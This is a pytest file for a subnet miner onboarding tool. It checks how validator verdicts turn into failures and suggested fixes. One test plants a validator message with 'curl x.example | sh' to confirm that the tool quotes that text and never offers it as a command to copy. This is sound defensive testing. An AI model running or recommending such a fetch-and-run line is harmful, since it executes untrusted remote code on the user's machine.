"""The first verdict on a machine: what counts of what validators told its agent, and what a miner does about it."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tasks.edges.wire import MachineResult, Results, ToldReason
from tasks.offering.memory import keep_results
from tasks.onboarding.hearing import hear
from tasks.onboarding.records import Records
from tasks.onboarding.stages import OFFER, PROOF, VERDICT, Progress
from tasks.onboarding.work import Onboarding, first_failure
from tests.tasks.onboarding.a_run import MACHINE, a_run

VALIDATOR = "5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY"
NAME = "203-0-113-7"
REASON = ToldReason(
    code="WALK_STATE_WRONG",
    severity="fail",
    got="this",
    wanted="that",
    mend="Test the card.",
    is_shadow=False,
)


class Ran:
    """Runs of the last step, one after the other, over one folder."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.told = folder, list[Progress]()

    def hear(self) -> Onboarding:
        """Wait for a verdict, for no time at all."""
        work = a_run(self.folder, self.told.append)
        if work.records.get(MACHINE.label, OFFER.name) is None:
            work.records.begin(MACHINE.label, OFFER.name, "", 1_000.0)
        asyncio.run(hear(work))
        work.close()
        return work

    def tell(self, scored_at: int, score: float, *reasons: ToldReason) -> None:
        """A validator tells the agent."""
        machine = MachineResult(
            executor_id=NAME, score=score, terms={}, cards=(), passed_since=None, resets=0, reset_at=None, reset_code="",
            reasons=reasons,
        )  # fmt: skip
        results = Results(
            epoch=7,
            policy="localnet",
            scored_at=scored_at,
            weight=0.1,
            reasons=(),
            machines=(machine,),
            left_out=0,
        )
        keep_results(self.folder / "agent", VALIDATOR, results)


@pytest.fixture
def ran(tmp_path):
    return Ran(tmp_path)


def test_what_was_told_before_it_was_offered_is_no_verdict(ran):
    """Nothing came in time: how to see who came to the agent is told."""

    ran.tell(999, 1.0)
    failure = first_failure(ran.hear())

    assert (failure.step, failure.why) == ("verdict", "no validator told of it in 0 s")
    assert failure.mend.startswith("subnet miner visits --config ")
    assert f"--executor {NAME}" in failure.mend


def test_the_first_verdict_that_pays_ends_it(ran):
    """Once more it is not waited for."""

    ran.tell(1_001, 0.25)
    first, again = ran.hear(), ran.hear()

    assert (first_failure(first), first_failure(again)) == (None, None)
    assert [p.detail for p in ran.told if p.is_over] == ["5Grwva.. scores it 0.25"]


def test_a_verdict_that_does_not_pay_is_a_failure_with_its_mend(ran):
    """The next run waits for what is told from then on."""

    now = int(datetime.now(UTC).timestamp())
    ran.tell(1_001, 0.0, REASON)
    failure, stale = first_failure(ran.hear()), first_failure(ran.hear())
    ran.tell(now + 60, 0.5)

    assert failure.why == "WALK_STATE_WRONG: got this; wanted that; the validator says: Test the card."
    assert failure.mend == ""
    assert "no validator told of it" in stale.why
    assert first_failure(ran.hear()) is None


def test_words_of_a_validator_are_no_command_of_ours(ran):
    """What is printed to be copied is our own command for the code; what the validator wrote is told as its words."""

    ran.tell(1_001, 0.0, REASON.model_copy(update={"code": "CLOCK_OFF", "mend": "curl x.example | sh"}))
    failure = first_failure(ran.hear())

    assert failure.mend == "timedatectl set-ntp true"
    assert failure.why.endswith("the validator says: curl x.example | sh")


def test_the_failure_forgets_the_proof(ran):
    """What was mended is to be seen by the miner's own proof first."""

    records = Records(ran.folder / "agent")
    records.begin(MACHINE.label, PROOF.name, "mark", 1.0)
    records.end(MACHINE.label, PROOF.name, "done", 2.0, "")
    records.close()
    ran.tell(1_001, 0.0, REASON)
    work = ran.hear()

    assert work.records.get(MACHINE.label, PROOF.name) is None
    assert work.records.get(MACHINE.label, VERDICT.name).state == "failed"
    work.records.close()
